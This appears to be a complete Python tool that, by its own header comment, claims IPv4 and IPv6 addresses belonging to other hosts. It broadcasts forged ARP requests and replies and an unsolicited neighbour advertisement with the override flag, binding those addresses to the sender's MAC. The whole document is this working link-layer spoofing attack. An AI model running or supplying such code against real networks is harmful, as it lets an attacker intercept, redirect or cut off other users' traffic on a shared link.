# Claims addresses that are somebody else's: `claim.py INTERFACE IPV4 IPV6` announces both to all on the link, by ARP as a
# request and as an answer, and by an unsolicited neighbour advertisement.
import socket, struct, sys

name, four, six = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((name, 0))
mac = link.getsockname()[4]
address = socket.inet_aton(four)
for operation in (1, 2):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + address + bytes(6) + address
    link.send(b"\xff" * 6 + mac + struct.pack("!H", 0x0806) + arp)
# RFC 4861, section 4.4: type 136 with the flag to override, the target, and its link-layer address. From our own
# link-local address; the kernel fills in the checksum.
icmp = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
icmp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
icmp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
advertisement = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, six)
icmp.sendto(advertisement + struct.pack("!BB", 2, 1) + mac, ("ff02::1", 0, 0, socket.if_nametoindex(name)))
